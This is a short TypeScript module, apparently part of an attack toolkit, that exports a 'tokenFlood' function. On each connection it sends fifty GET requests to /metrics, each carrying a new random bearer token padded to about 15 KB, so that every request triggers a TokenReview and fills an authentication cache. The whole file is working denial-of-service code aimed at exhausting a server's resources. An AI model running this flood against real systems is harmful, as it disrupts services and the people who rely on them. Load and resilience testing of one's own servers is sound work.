import { randomBytes } from "node:crypto";
import { type AttackOptions, onEachConnection, repeat, write } from "./attack.ts";

/** Size of each token in bytes: the maximum for the head of a request. */
const size = 15 * 1024;

/** Requests `/metrics` with a new bearer token each time, so that each causes a TokenReview and an entry of a cache. */
export function tokenFlood(options: AttackOptions): Promise<void> {
  const { path = "/metrics" } = options;
  const filler = "x".repeat(size);
  return onEachConnection(options, (socket) =>
    repeat(socket, 50, () => {
      const token = randomBytes(16).toString("hex") + filler;
      return write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`);
    }),
  );
}
